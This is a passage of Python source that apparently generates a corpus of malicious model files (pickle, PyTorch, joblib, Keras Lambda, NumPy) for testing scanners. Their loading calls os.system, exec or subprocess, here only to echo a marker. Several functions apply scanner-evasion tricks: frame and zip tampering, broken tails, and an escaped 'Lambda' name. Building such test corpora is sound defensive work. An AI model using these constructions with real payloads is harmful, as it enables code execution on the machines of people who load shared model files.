    return [LEGACY_MAGIC, 1001, LEGACY_SYS_INFO, main, key_list]


def legacy_torch(streams: Sequence[bytes], tensors: Sequence[Tensor]) -> bytes:
    """Back-to-back pickles, then each storage as an int64 element count and its raw bytes."""
    out = bytearray(b"".join(streams))
    seen: dict[str, bytes] = {}
    for seed, tensor in enumerate(tensors):
        seen.setdefault(tensor.key, storage_bytes(tensor, seed))
    for key in sorted(seen):
        tensor = next(t for t in tensors if t.key == key)
        numel = tensor.numel if tensor.numel is not None else int(np.prod(tensor.shape))
        out += struct.pack("<q", numel) + seen[key]
    return bytes(out)


LEGACY_TENSORS = [
    Tensor("FloatStorage", "94201554214720", (3, 4)),
    Tensor("FloatStorage", "94201554215360", (3,)),
]
LEGACY_STATE = {"fc.weight": LEGACY_TENSORS[0], "fc.bias": LEGACY_TENSORS[1]}


# --------------------------------------------------------------------------------------- Keras pieces


def lambda_code_b64(expression: str) -> str:
    """Base64 of marshalled lambda code, line-wrapped as Keras' func_dump writes it."""
    return base64.encodebytes(_lambda_code(expression)).decode("ascii")


def keras2_layer(class_name: str, name: str, config: JSON, inbound: str | None) -> JSON:
    layer: JSON = {"class_name": class_name, "config": {"name": name, "trainable": True, **config}}
    if inbound is not None:
        layer["name"] = name
        layer["inbound_nodes"] = [[[inbound, 0, 0, {}]]] if inbound else []
    return layer


def keras2_lambda_config(expression: str) -> JSON:
    return {
        "dtype": "float32",
        "function": [lambda_code_b64(expression), None, None],
        "function_type": "lambda",
        "module": "__main__",
        "output_shape": None,
        "output_shape_type": "raw",
        "output_shape_module": None,
        "arguments": {},
    }


def keras2_dense(units: int) -> JSON:
    return {
        "dtype": "float32",
        "units": units,
        "activation": "relu",
        "use_bias": True,
        "kernel_initializer": {"class_name": "GlorotUniform", "config": {"seed": None}},
        "bias_initializer": {"class_name": "Zeros", "config": {}},
    }


def keras2_model(layers: list[tuple[str, str, JSON]], functional: bool) -> JSON:
    """A Keras 2 model_config: Sequential, or Functional with each layer fed by the one before."""
    built, previous = [], ""
    input_layer = {"batch_input_shape": [None, 4], "dtype": "float32", "sparse": False}
    for class_name, name, config in [("InputLayer", "input_1", input_layer), *layers]:
        built.append(keras2_layer(class_name, name, config, previous if functional else None))
        previous = name
    if functional:
        model = {"name": "model", "layers": built, "input_layers": [["input_1", 0, 0]]}
        model["output_layers"] = [[previous, 0, 0]]
        return {"class_name": "Functional", "config": model}
    return {"class_name": "Sequential", "config": {"name": "sequential", "layers": built}}


def keras3_layer(class_name: str, name: str, config: JSON) -> JSON:
    return {
        "module": "keras.layers",
        "class_name": class_name,
        "config": {"name": name, "trainable": True, "dtype": "float32", **config},
        "registered_name": None,
        "build_config": {"input_shape": [None, 4]},
    }


def keras3_lambda(code_b64: str) -> JSON:
    function = {"class_name": "__lambda__", "config": {"code": code_b64, "defaults": None, "closure": None}}
    return keras3_layer("Lambda", "lambda", {"function": function, "arguments": {}})


def keras3_dense(units: int) -> JSON:
    return {
        "units": units,
        "activation": "relu",
        "use_bias": True,
        "kernel_initializer": {
            "module": "keras.initializers",
            "class_name": "GlorotUniform",
            "config": {"seed": None},
            "registered_name": None,
        },
    }


def keras3_model(layers: list[JSON], class_name: str = "Sequential") -> JSON:
    input_layer = {
        "module": "keras.layers",
        "class_name": "InputLayer",
        "config": {"batch_shape": [None, 4], "dtype": "float32", "sparse": False, "name": "input_layer"},
        "registered_name": None,
    }
    config = {"name": class_name.lower(), "trainable": True, "layers": [input_layer, *layers]}
    return {"module": "keras", "class_name": class_name, "config": config, "registered_name": None}


def keras_h5(path: Path, model_config: str, keras_version: str, weights: dict[str, dict[str, np.ndarray]]) -> None:
    """A Keras HDF5 model: config and version as root attributes, weights under model_weights."""
    import h5py

    with h5py.File(path, "w") as handle:
        handle.attrs["keras_version"] = keras_version
        handle.attrs["backend"] = "tensorflow"
        handle.attrs["model_config"] = model_config
        group = handle.create_group("model_weights")
        group.attrs["layer_names"] = np.array([name.encode() for name in weights])
        for layer, arrays in weights.items():
            layer_group = group.create_group(layer)
            layer_group.attrs["weight_names"] = np.array([f"{layer}/{name}".encode() for name in arrays])
            inner = layer_group.create_group(layer)
            for name, array in arrays.items():
                inner.create_dataset(name, data=array)


def keras3_weights_h5(weights: dict[str, list[np.ndarray]]) -> bytes:
    """model.weights.h5 as Keras 3 lays it out: layers/<name>/vars/<index>."""
    import h5py

    buffer = io.BytesIO()
    with h5py.File(buffer, "w") as handle:
        for layer, arrays in weights.items():
            group = handle.create_group(f"layers/{layer}/vars")
            for index, array in enumerate(arrays):
                group.create_dataset(str(index), data=array)
        handle.create_group("optimizer/vars")
    return buffer.getvalue()


def keras_zip(config: str, weights: bytes, keras_version: str = "3.3.3") -> bytes:
    metadata = json.dumps({"keras_version": keras_version, "date_saved": "2024-05-01@12:00:00"})
    members = [("metadata.json", metadata.encode()), ("config.json", config.encode()), ("model.weights.h5", weights)]
    return zip_bytes(members, zipfile.ZIP_DEFLATED)


def dense_weights(seed: int, sizes: Sequence[int] = (4, 3, 2)) -> list[np.ndarray]:
    rng = np.random.default_rng(seed)
    arrays = []
    for size_in, size_out in itertools.pairwise(sizes):
        arrays += [rng.standard_normal((size_in, size_out)).astype("<f4"), np.zeros(size_out, "<f4")]
    return arrays


# ===================================================================================== the families

_EXTENSIONS = (".pkl", ".pt", ".bin", ".pth", ".ckpt", ".pickle")


def _pickle_plain(writer: _Writer) -> None:
    family = "pickle-plain"
    for index, (key, node) in enumerate(PAYLOADS.items()):
        protocol = index % 6
        writer.add(family, f"p{protocol}-{key}", assemble(node, protocol), _EXTENSIONS[index % 6])
    system = PAYLOADS["os.system"]
    for protocol, suffix in zip(range(6), (".pt", ".bin", ".pth", ".ckpt", ".pickle", ".pkl"), strict=True):
        writer.add(family, f"ext{suffix}-p{protocol}-os.system", assemble(system, protocol), suffix)
    odd_opcodes = [
        ("inst-p0-os.system", assemble(Call(Ref("os", "system"), (ECHO,), "inst"), 0)),
        ("inst-p1-subprocess.getoutput", assemble(Call(Ref("subprocess", "getoutput"), (ECHO,), "inst"), 1)),
        ("obj-p1-builtins.exec", assemble(Call(Ref("builtins", "exec"), (SOURCE,), "obj"), 1)),
        ("obj-p2-posix.system", assemble(Call(Ref("posix", "system"), (ECHO,), "obj"), 2)),
        ("p0-py2strings-os.system", assemble(system, 0, python2_strings=True)),
        ("p2-py2strings-__builtin__.eval", assemble(PAYLOADS["__builtin__.eval"], 2, python2_strings=True)),
        ("p4-global-op-os.system", assemble(system, 4, stack_global=False)),
        ("p2-stack-global-os.system", assemble(system, 2, stack_global=True)),
        ("p3-stack-global-builtins.eval", assemble(PAYLOADS["builtins.eval"], 3, stack_global=True)),
        ("p5-unframed-subprocess.Popen", assemble(PAYLOADS["subprocess.Popen"], 5, framed=False)),
        ("p4-nomemo-builtins.exec", assemble(PAYLOADS["builtins.exec"], 4, memo=False)),
        ("p4-memo-names-os.system", _memo_names_pickle()),
        ("p2-state-dict-then-os.system", assemble(Then(system, state_dict(MLP_TENSORS)), 2)),
        ("p2-nested-in-dict-builtins.exec", assemble({"model": PAYLOADS["builtins.exec"], "epoch": 3}, 2)),
    ]
    for variant, data in odd_opcodes:
        writer.add(family, variant, data)


def _memo_names_pickle() -> bytes:
    """STACK_GLOBAL whose module and name come from memo (BINGET), not from strings right before it."""
    body = short_binunicode("os") + MEMOIZE + short_binunicode("system") + MEMOIZE + POP + POP
    body += binget(0) + binget(1) + STACK_GLOBAL + short_binunicode(ECHO) + TUPLE1 + REDUCE + STOP
    return proto(4) + frame(len(body)) + body


_ODD_PREFIXES: list[tuple[str, bytes, int]] = [  # (name, opcodes that push something then POP it, body protocol)
    ("string", string0("uptake") + POP, 0),
    ("unicode", unicode0("uptake") + POP, 0),
    ("int", b"I1\n" + POP, 0),
    ("bool", b"I01\n" + POP, 0),
    ("none", NONE + POP, 0),
    ("float", b"F1.0\n" + POP, 0),
    ("long", b"L1L\n" + POP, 0),
    ("put", NONE + b"p99\n" + POP, 0),
    ("binint1", b"K\x01" + POP, 1),
    ("binint", b"J\x01\x00\x00\x00" + POP, 1),
    ("binint2", b"M\x01\x00" + POP, 1),
    ("binfloat", b"G" + struct.pack(">d", 1.0) + POP, 1),
    ("short-binstring", b"U\x06uptake" + POP, 1),
    ("binunicode", binunicode("uptake") + POP, 1),
    ("empty-tuple", EMPTY_TUPLE + POP, 1),
    ("newtrue", NEWTRUE + POP, 1),
    ("long1", b"\x8a\x01\x01" + POP, 1),
    ("short-binunicode", short_binunicode("uptake") + POP, 1),
    ("binbytes", b"B\x06\x00\x00\x00uptake" + POP, 1),
    ("padding-64k", (NONE + POP) * 32768, 0),
]


def _pickle_odd_start(writer: _Writer) -> None:
    payloads = _payload_cycle(
        [
            "os.system",
            "builtins.exec",
            "subprocess.Popen",
            "builtins.eval",
            "posix.system",
            "runpy._run_code",
            "subprocess.getoutput",
            "builtins.getattr",
            "webbrowser.open",
        ]
    )
    for name, prefix, protocol in _ODD_PREFIXES:
        key, node = next(payloads)
        writer.add("pickle-odd-start", f"{name}-p{protocol}-{key}", prefix + assemble(node, protocol))


_ODD_NAMES = [
    ("model.p", 2, "os.system"),
    ("weights.dat", 4, "builtins.exec"),
    ("model.dill", 4, "marshal.loads"),
    ("classifier.joblib", 5, "posix.system"),
    ("estimator.model", 3, "subprocess.Popen"),
    ("classifier.sav", 2, "__builtin__.eval"),
    ("cache.npc", 5, "runpy._run_code"),
    ("pytorch_model", 2, "os.system"),
    ("notes.txt", 0, "os.system"),
    ("embeddings.npy", 2, "subprocess.check_output"),
    ("tokenizer.data", 4, "builtins.getattr"),
    ("model.pkl.bak", 3, "functools.partial"),
    ("config.yaml", 1, "os.popen"),
]


def _pickle_odd_name(writer: _Writer) -> None:
    family = "pickle-odd-name"
    for name, protocol, key in _ODD_NAMES:
        stem = name.replace(".", "-")
        writer.add(family, f"{stem}-p{protocol}-{key}", assemble(PAYLOADS[key], protocol), name=name)
    # Not a corpus entry: the harmless neighbour a model folder always has, so a folder scan looks real.
    writer.path(family, "config.json").write_text('{"model_type": "uptake-corpus", "hidden_size": 4}\n')


def _pickle_late_stream(writer: _Writer) -> None:
    """Legacy PyTorch files: streams 1-5, one of 2-5 replaced by a payload that leaves the expected value."""
    family = "pickle-late-stream"
    groups = [("p0", 0, 2, False), ("p1", 1, 2, False), ("all-p0", 0, 0, False), ("p4", 4, 2, True)]
    payloads = _payload_cycle(
        [
            "os.system",
            "builtins.exec",
            "subprocess.Popen",
            "builtins.eval",
            "runpy._run_code",
            "posix.system",
            "builtins.getattr",
            "subprocess.check_output",
        ]
    )
    for group, bad_protocol, good_protocol, header in groups:
        for position in (2, 3, 4, 5):
            key, node = next(payloads)
            nodes = legacy_streams(state_dict(LEGACY_STATE, legacy=True), LEGACY_TENSORS)
            streams = [assemble(n, good_protocol) for n in nodes]
            streams[position - 1] = assemble(Then(node, nodes[position - 1]), bad_protocol, header=header)
            data = legacy_torch(streams, LEGACY_TENSORS)
            writer.add(family, f"stream{position}-{group}-{key}", data, (".pt", ".bin", ".pth", ".ckpt")[position - 2])


def _pickle_broken_tail(writer: _Writer) -> None:
    """GLOBAL + REDUCE first, then a tail that breaks: invalid or truncated opcodes, no STOP, or opcodes that
    decode but fail when run (unknown memo key, stack underflow, persistent id with no loader). An unpickler
    runs the call before it reaches the error; a scanner that insists on a well-formed stream gives up."""
    family = "pickle-broken-tail"
    tails: list[tuple[str, bytes]] = [
        ("invalid-ff-fe", b"\xff\xfe"),
        ("invalid-nul", b"\x00\x00\x00"),
        ("truncated-binunicode", b"X" + struct.pack("<I", 1000) + b"abc"),
        ("truncated-short-binunicode", b"\x8c\x40abc"),
        ("missing-stop", b""),
        ("text-garbage", POP + b"this is not a pickle at all"),
        ("unsupported-proto", b"\x80\x09"),
        ("unknown-memo", b"h\x63" + STOP),
        ("stack-underflow", POP * 4 + STOP),
        ("truncated-frame", b"\x95\x01\x00"),
        ("unterminated-string", b"S'unterminated"),
        ("unclosed-mark", MARK + b"K\x01"),
        ("persid-without-loader", binunicode("0") + BINPERSID + STOP),
        ("truncated-long4", b"\x8b" + struct.pack("<i", 10**9) + b"\x01"),
    ]
    payloads = _payload_cycle()
    for index, (name, tail) in enumerate(tails):
        key, node = next(payloads)
        protocol = index % 6
        head = proto(protocol) if protocol >= 2 else b""
        writer.add(
            family, f"{name}-p{protocol}-{key}", head + pickle_body(node, protocol) + tail, _EXTENSIONS[index % 6]
        )
    for compression, name in ((zipfile.ZIP_STORED, "stored"), (zipfile.ZIP_DEFLATED, "deflated")):
        key, node = next(payloads)
        broken = proto(2) + pickle_body(node, 2) + b"\xff" * 7
        data = torch_zip(broken, list(MLP_TENSORS.values()), compression=compression)
        writer.add(family, f"torch-zip-{name}-{key}", data, ".pt")


# ----------------------------------------------------------------------------------- zip tampering


def _malicious_data_pkl(node: Node) -> bytes:
    """A state dict that still loads, after the payload ran."""
    return assemble(Then(node, state_dict(MLP_TENSORS)), 2)


def _set_crc(blob: bytes, name: str, local: bool, central: bool) -> bytes:
    entry = _entry(blob, name)
    if local:
        (crc,) = struct.unpack_from("<I", blob, entry.local + 14)
        blob = _patch(blob, entry.local + 14, "<I", crc ^ 0xDEADBEEF)
    if central:
        (crc,) = struct.unpack_from("<I", blob, entry.central + 16)
        blob = _patch(blob, entry.central + 16, "<I", crc ^ 0xDEADBEEF)
    return blob


def _set_flags(blob: bytes, name: str, flags: int, local: bool = True, central: bool = True) -> bytes:
    entry = _entry(blob, name)
    if local:
        blob = _patch(blob, entry.local + 6, "<H", flags)
    if central:
        blob = _patch(blob, entry.central + 8, "<H", flags)
    return blob


def _rename(blob: bytes, offset: int, old: str, new: str) -> bytes:
    if len(old) != len(new):
        raise ValueError("a renamed header must keep its length")
    start = blob.index(old.encode(), offset)
    return blob[:start] + new.encode() + blob[start + len(new) :]


def _prepend(blob: bytes, prefix: bytes, fix_offsets: bool) -> bytes:
    """Bytes before the zip. With fixed offsets it is a proper self-extractor; without, readers must
    infer the shift from the end record."""
    if not fix_offsets:
        return prefix + blob
    for entry in zip_entries(blob):
        (local,) = struct.unpack_from("<I", blob, entry.central + 42)
        blob = _patch(blob, entry.central + 42, "<I", local + len(prefix))
    end = blob.rfind(b"PK\x05\x06")
    (start,) = struct.unpack_from("<I", blob, end + 16)
    return prefix + _patch(blob, end + 16, "<I", start + len(prefix))


def _zip_tampered(writer: _Writer) -> None:
    family = "zip-tampered"
    tensors = list(MLP_TENSORS.values())
    pkl = "archive/data.pkl"
    payloads = _payload_cycle()

    def checkpoint(compression: int) -> tuple[str, bytes]:
        key, node = next(payloads)
        return key, torch_zip(_malicious_data_pkl(node), tensors, compression=compression)

    stored, deflated = zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED
    tampers: list[tuple[str, int, Callable[[bytes], bytes]]] = [
        ("crc-both-stored", stored, lambda b: _set_crc(b, pkl, True, True)),
        ("crc-both-deflated", deflated, lambda b: _set_crc(b, pkl, True, True)),
        ("crc-central-stored", stored, lambda b: _set_crc(b, pkl, False, True)),
        ("crc-local-deflated", deflated, lambda b: _set_crc(b, pkl, True, False)),
        ("name-local-differs", stored, lambda b: _rename(b, _entry(b, pkl).local, pkl, "archive/datap.kl")),
        ("name-central-differs", deflated, lambda b: _rename(b, _entry(b, pkl).central, pkl, "archive/data.txt")),
        ("flag-0x1-both", stored, lambda b: _set_flags(b, pkl, 0x1)),
        ("flag-0x1-local", deflated, lambda b: _set_flags(b, pkl, 0x1, central=False)),
        ("flag-0x20-both", stored, lambda b: _set_flags(b, pkl, 0x20)),
        ("flag-0x40-both", deflated, lambda b: _set_flags(b, pkl, 0x40)),
        ("flag-0x8-zero-sizes", deflated, lambda b: _zero_local_sizes(_set_flags(b, pkl, 0x8))),
        ("flag-0x8-stored-zero-sizes", stored, lambda b: _zero_local_sizes(_set_flags(b, pkl, 0x8))),
        ("flag-0x8-wrong-sizes", deflated, lambda b: _wrong_local_sizes(_set_flags(b, pkl, 0x8, central=False))),
        ("prepended-junk", stored, lambda b: _prepend(b, b"UPTAKE-CORPUS-PREAMBLE\n" * 3, fix_offsets=False)),
        ("prepended-pickle-fixed", deflated, lambda b: _prepend(b, pickle.dumps({"a": 1}, 2), fix_offsets=True)),
        ("crc-and-flag-0x1", stored, lambda b: _set_flags(_set_crc(b, pkl, True, True), pkl, 0x1)),
    ]
    for name, compression, tamper in tampers:
        key, blob = checkpoint(compression)
        writer.add(family, f"{name}-{key}", tamper(blob), ".pt")
    for member, suffix in (("archive/data", ".pt"), ("archive/weights.bin", ".bin"), ("model.json", ".zip")):
        key, node = next(payloads)
        blob = zip_bytes([(member, _malicious_data_pkl(node)), ("archive/version", b"3\n")])
        writer.add(family, f"renamed-{member.replace('/', '-')}-{key}", blob, suffix)
    benign = assemble(state_dict(MLP_TENSORS), 2)
    for order in ("benign-first", "malicious-first"):
        key, node = next(payloads)
        pair = [(pkl, benign), (pkl, _malicious_data_pkl(node))]
        members = pair if order == "benign-first" else pair[::-1]
        writer.add(family, f"duplicate-{order}-{key}", zip_bytes([*members, ("archive/version", b"3\n")]), ".pt")


def _zero_local_sizes(blob: bytes) -> bytes:
    entry = _entry(blob, "archive/data.pkl")
    return _patch(blob, entry.local + 14, "<III", 0, 0, 0)


def _wrong_local_sizes(blob: bytes) -> bytes:
    entry = _entry(blob, "archive/data.pkl")
    return _patch(blob, entry.local + 18, "<II", 7, 7)


# -------------------------------------------------------------------------------------------- joblib


def _joblib_compressed(writer: _Writer) -> None:
    import joblib

    family = "joblib-compressed"
    reducing = _reducing_payloads()
    dumps = [("zlib", ".joblib"), ("gzip", ".gz"), ("bz2", ".joblib"), ("lzma", ".joblib"), ("xz", ".joblib")]
    for index, (method, suffix) in enumerate(dumps):
        payload = reducing[index]
        variant = f"dump-{method}-{payload.key}"
        path = writer.path(family, variant.replace(".", "_") + suffix)
        joblib.dump(payload, path, compress=(method, 3))
        writer.record(family, variant, path)
    # joblib writes array bytes raw inside the pickle stream: a payload after them is past the point where a
    # plain disassembler stops, while joblib's own unpickler skips the array and goes on to run it.
    for method, payload, before in (("zlib", reducing[1], True), ("gzip", reducing[2], False)):
        variant = f"dump-{method}-{'before' if before else 'after'}-array-{payload.key}"
        path = writer.path(family, variant.replace(".", "_") + ".pkl")
        value = {"hook": payload, "coef": np.arange(8.0)} if before else {"coef": np.arange(8.0), "hook": payload}
        joblib.dump(value, path, compress=(method, 3))
        writer.record(family, variant, path)
    by_hand: list[tuple[str, Callable[[bytes], bytes], int, str, str]] = [
        ("zlib", zlib_stream, 2, "os.system", ".z"),
        ("gzip", lambda d: zlib_stream(d, 31), 4, "builtins.eval", ".gz"),
        ("bz2", lambda d: bz2.compress(d, 3), 0, "os.system", ".joblib"),
        ("xz", lambda d: lzma.compress(d, lzma.FORMAT_XZ, preset=3), 5, "runpy._run_code", ".joblib"),
        ("lzma", lambda d: lzma.compress(d, lzma.FORMAT_ALONE, preset=3), 3, "subprocess.Popen", ".pkl"),
        ("zf-legacy", joblib_legacy_zfile, 2, "os.system", ".pkl"),
        ("zf-legacy", joblib_legacy_zfile, 0, "subprocess.getoutput", ".joblib"),
        ("zf-legacy", joblib_legacy_zfile, 4, "builtins.exec", ".z"),
    ]
    for method, compress, protocol, key, suffix in by_hand:
        data = compress(assemble(PAYLOADS[key], protocol))
        writer.add(family, f"hand-{method}-p{protocol}-{key}", data, suffix)


# ---------------------------------------------------------------------------------------- Keras Lambda


_LAMBDA_EXPRESSIONS = {
    "os.system": "__import__('os').system('echo uptake-corpus') or x",
    "builtins.exec": "exec(\"import os; os.system('echo uptake-corpus')\") or x",
    "subprocess.Popen": "__import__('subprocess').Popen(['echo', 'uptake-corpus']) and x",
}
COMPACT_JSON = (",", ":")


def _keras2_lambda(key: str) -> tuple[str, str, JSON]:
    return "Lambda", "lambda", keras2_lambda_config(_LAMBDA_EXPRESSIONS[key])


def _keras3_lambda(key: str) -> JSON:
    return keras3_lambda(lambda_code_b64(_LAMBDA_EXPRESSIONS[key]))


def _escape_lambda(text: str) -> str:
    """The class name "Lambda" with a JSON unicode escape: the same to a JSON parser, not to a byte search."""
    return text.replace('"Lambda"', '"\\u004cambda"')


def _keras_lambda(writer: _Writer) -> None:
    family = "keras-lambda"
    dense = ("Dense", "dense", keras2_dense(2))
    weights = {"dense": {"kernel:0": dense_weights(0)[0][:, :2], "bias:0": np.zeros(2, "<f4")}}
    function_reference = ("Lambda", "lambda", _keras2_function_ref())
    h5_configs: list[tuple[str, str, str]] = [
        ("sequential-os.system", json.dumps(keras2_model([_keras2_lambda("os.system"), dense], False)), "2.15.0"),
        (
            "functional-builtins.exec",
            json.dumps(keras2_model([_keras2_lambda("builtins.exec"), dense], True)),
            "2.13.1",
        ),
        ("nested-subprocess.Popen", json.dumps(_nested_keras2(_LAMBDA_EXPRESSIONS["subprocess.Popen"])), "2.12.0"),
        ("function-reference-os.system", json.dumps(keras2_model([function_reference, dense], False)), "2.11.0"),
        ("keras3-style-os.system", json.dumps(keras3_model([_keras3_lambda("os.system")])), "3.3.3"),
        (
            "compact-json-os.system",
            json.dumps(keras2_model([_keras2_lambda("os.system")], False), separators=COMPACT_JSON),
            "2.15.0",
        ),
        (
            "escaped-class-name-os.system",
            _escape_lambda(json.dumps(keras2_model([_keras2_lambda("os.system")], True))),
            "2.15.0",
        ),
    ]
    for name, config_text, version in h5_configs:
        path = writer.path(family, f"h5-{name}".replace(".", "_") + ".h5")
        keras_h5(path, config_text, version, weights)
        writer.record(family, f"h5-{name}", path)
    dense3 = keras3_layer("Dense", "dense", keras3_dense(3))
    zip_configs: list[tuple[str, str]] = [
        ("sequential-os.system", json.dumps(keras3_model([_keras3_lambda("os.system"), dense3]))),
        ("functional-builtins.exec", json.dumps(keras3_model([_keras3_lambda("builtins.exec"), dense3], "Functional"))),
        (
            "nested-subprocess.Popen",
            json.dumps(keras3_model([keras3_model([_keras3_lambda("subprocess.Popen")]), dense3])),
        ),
        ("function-reference-builtins.exec", json.dumps(keras3_model([_keras3_function_ref(), dense3]))),
        ("compact-json-os.system", json.dumps(keras3_model([_keras3_lambda("os.system")]), separators=COMPACT_JSON)),
        ("escaped-class-name-os.system", _escape_lambda(json.dumps(keras3_model([_keras3_lambda("os.system")])))),
    ]
    weights_h5 = keras3_weights_h5({"dense": dense_weights(1)[:2]})
    for name, config_text in zip_configs:
        writer.add(family, f"keras-{name}", keras_zip(config_text, weights_h5), ".keras")


def _nested_keras2(expression: str) -> JSON:
    """A Functional model whose Lambda sits inside a nested Sequential, below the top-level layer list."""
    inner = keras2_model([("Lambda", "lambda", keras2_lambda_config(expression))], False)
    return keras2_model([("Sequential", "inner", inner["config"]), ("Dense", "dense", keras2_dense(2))], True)


def _keras2_function_ref() -> JSON:
    """A Lambda naming a module-level function, which Keras 2 resolves from the named module."""
    config = keras2_lambda_config("x")
    config.update(function="system", function_type="function", module="os")
    return config


def _keras3_function_ref() -> JSON:
    function = {"module": "builtins", "class_name": "function", "config": "exec", "registered_name": "function"}
    return keras3_layer("Lambda", "lambda", {"function": function, "arguments": {}})


# --------------------------------------------------------------------------------------- frame tamper


def _op_offsets(data: bytes) -> list[tuple[str, int]]:
    """(opcode name, offset) of each opcode in a pickle we wrote ourselves: disassembly, not loading."""
    return [(op.name, position or 0) for op, _, position in pickletools.genops(data)]


def _offset_of(data: bytes, name: str, nth: int = 0) -> int:
    return [position for op, position in _op_offsets(data) if op == name][nth]


def _frame_tamper(writer: _Writer) -> None:
    """FRAME lengths that disagree with the opcodes. Measured with a harmless stand-in callable: CPython's C
    unpickler runs every variant from bytes (pickle.loads) and from a buffered file (open(path, "rb")); the
    pure-Python unpickler stops at the mismatch on all but the zero-length and huge-after-payload frames
    (which both run). From an unbuffered io.BytesIO the C unpickler drops the bytes after a frame that ends
    inside an argument, so the cut-in-a-string variants fail to run there."""
    family = "pickle-frame-tamper"
    payloads = _payload_cycle(
        [
            "os.system",
            "builtins.exec",
            "subprocess.Popen",
            "builtins.eval",
            "posix.system",
            "runpy._run_code",
            "subprocess.check_output",
            "builtins.getattr",
        ]
    )
    for variant_name, build in _FRAME_TAMPERS:
        key, node = next(payloads)
        data = build(node)
        writer.add(family, f"{variant_name}-{key}", data, ".pkl" if "p5" not in variant_name else ".pt")


def _cut_frame(body: bytes, cut: int, protocol: int = 4) -> bytes:
    """PROTO, then a FRAME that declares only `cut` bytes of a body that runs on past it."""
    return proto(protocol) + frame(cut) + body


def _body(node: Node, protocol: int = 4, **options: bool) -> bytes:
    return pickle_body(node, protocol, **options) + STOP


def _frame_inside_module(node: Node) -> bytes:
    body = _body(node)
    return _cut_frame(body, _offset_of(body, "SHORT_BINUNICODE") + 3)


def _frame_inside_name(node: Node) -> bytes:
    body = _body(node)
    return _cut_frame(body, _offset_of(body, "SHORT_BINUNICODE", 1) + 4)


def _frame_inside_binunicode(node: Node) -> bytes:
    padded = Then(Raw(binunicode("#" * 300)), node)
    body = _body(padded)
    return _cut_frame(body, 150)


def _frame_inside_global_line(node: Node) -> bytes:
    body = _body(node, stack_global=False)
    return _cut_frame(body, _offset_of(body, "GLOBAL") + 2)


def _frame_zero(node: Node) -> bytes:
    return _cut_frame(_body(node), 0)


def _frame_per_opcode(node: Node) -> bytes:
    """A FRAME before every opcode, each declaring one byte less than its opcode (one for a one-byte opcode),
    so a frame ends inside every opcode with an argument."""
    body = _body(node)
    offsets = [position for _, position in _op_offsets(body)] + [len(body)]
    pieces = [frame(max(1, end - start - 1)) + body[start:end] for start, end in itertools.pairwise(offsets)]
    return proto(4) + b"".join(pieces)


def _frame_nested(node: Node) -> bytes:
    """A second FRAME inside the first one's declared span."""
    body = _body(node)
    middle = _offset_of(body, "STACK_GLOBAL")
    inner = frame(len(body) - middle)
    return proto(4) + frame(len(body) + len(inner)) + body[:middle] + inner + body[middle:]


def _frame_huge_after_payload(node: Node) -> bytes:
    head = pickle_body(node, 4)
    return proto(4) + frame(len(head)) + head + frame(2**40) + STOP


def _frame_inside_bytearray(node: Node) -> bytes:
    padded = Then(Raw(b"\x96" + struct.pack("<Q", 64) + bytes(range(64))), node)
    body = _body(padded, 5)
    return _cut_frame(body, 20, 5)


def _frame_in_protocol2(node: Node) -> bytes:
    body = _body(node, 2)
    return _cut_frame(body, _offset_of(body, "GLOBAL") + 3, 2)


def _frame_before_proto(node: Node) -> bytes:
    body = proto(4) + _body(node)
    return frame(_offset_of(body, "SHORT_BINUNICODE") + 3) + body


def _frame_second_straddles(node: Node) -> bytes:
    """A correct first frame (a harmless string), then a short one that splits the STACK_GLOBAL names."""
    first = short_binunicode("uptake") + POP
    body = _body(node)
    return proto(4) + frame(len(first)) + first + frame(_offset_of(body, "SHORT_BINUNICODE", 1) + 4) + body


_FRAME_TAMPERS: list[tuple[str, Callable[[Node], bytes]]] = [
    ("p4-cut-in-module-name", _frame_inside_module),
    ("p4-cut-in-global-name", _frame_inside_name),
    ("p4-cut-in-binunicode", _frame_inside_binunicode),
    ("p4-cut-in-global-line", _frame_inside_global_line),
    ("p4-zero-length", _frame_zero),
    ("p4-short-frame-per-opcode", _frame_per_opcode),
    ("p4-nested-frame", _frame_nested),
    ("p4-huge-after-payload", _frame_huge_after_payload),
    ("p5-cut-in-bytearray8", _frame_inside_bytearray),
    ("p2-frame-cut-in-global", _frame_in_protocol2),
    ("p4-frame-before-proto", _frame_before_proto),
    ("p4-second-frame-straddles", _frame_second_straddles),
]


# ------------------------------------------------------------------------------------------ npy object


def _npy_object(writer: _Writer) -> None:
    family = "npy-object"
    reducing = _reducing_payloads()
    saved: list[tuple[str, np.ndarray]] = [
        ("np-save", np.array([reducing[0]], dtype=object)),
        ("np-save-mixed", np.array([1, "a", reducing[1]], dtype=object)),
        ("np-save-2d", np.array([[reducing[2], 1], [2, 3]], dtype=object)),
        ("np-save-fortran", np.asfortranarray(np.array([[reducing[3], 1], [2, 3]], dtype=object))),
    ]
    for variant, array in saved:
        payload = next(item for item in array.flat if isinstance(item, _Reducing))
        writer.add(family, f"{variant}-{payload.key}", npy_bytes(array), ".npy")
    record = np.empty(1, dtype=[("label", "<i4"), ("hook", "O")])
    record[0] = (1, reducing[4])
    writer.add(family, f"np-save-structured-{reducing[4].key}", npy_bytes(record), ".npy")
    by_hand = [
        ("v1", 1, 2, "os.system", (1,)),
        ("v2", 2, 4, "builtins.exec", (1,)),
        ("v3", 3, 5, "subprocess.Popen", (1,)),
        ("v1-scalar", 1, 0, "runpy._run_code", ()),
    ]
    for name, version, protocol, key, shape in by_hand:
        data = npy_header("|O", shape, version=version) + assemble(PAYLOADS[key], protocol)
        writer.add(family, f"hand-{name}-p{protocol}-{key}", data, ".npy")
    _npz_object(writer, reducing)


def _npz_object(writer: _Writer, reducing: list[_Reducing]) -> None:
    """np.savez-style archives (stored or deflated, zip64 headers) holding a malicious object array."""
    benign = npy_bytes(np.arange(6, dtype="<f4").reshape(2, 3))
    npz_members: list[tuple[str, int, list[tuple[str, bytes]]]] = [
        (
            f"npz-stored-{reducing[0].key}",
            zipfile.ZIP_STORED,
            [("arr_0.npy", npy_bytes(np.array([reducing[0]], dtype=object)))],
        ),
        (
            "npz-deflated-os.system",
            zipfile.ZIP_DEFLATED,
            [("arr_0.npy", npy_header("|O", (1,)) + assemble(PAYLOADS["os.system"], 3))],
        ),
        (
            f"npz-beside-weights-{reducing[5].key}",
            zipfile.ZIP_STORED,
            [("weights.npy", benign), ("labels.npy", npy_bytes(np.array([reducing[5]], dtype=object)))],
        ),
        (
            "npz-compressed-second-builtins.eval",
            zipfile.ZIP_DEFLATED,
            [("weights.npy", benign), ("meta.npy", npy_header("|O", ()) + assemble(PAYLOADS["builtins.eval"], 4))],
        ),
    ]
    for variant, compression, members in npz_members:
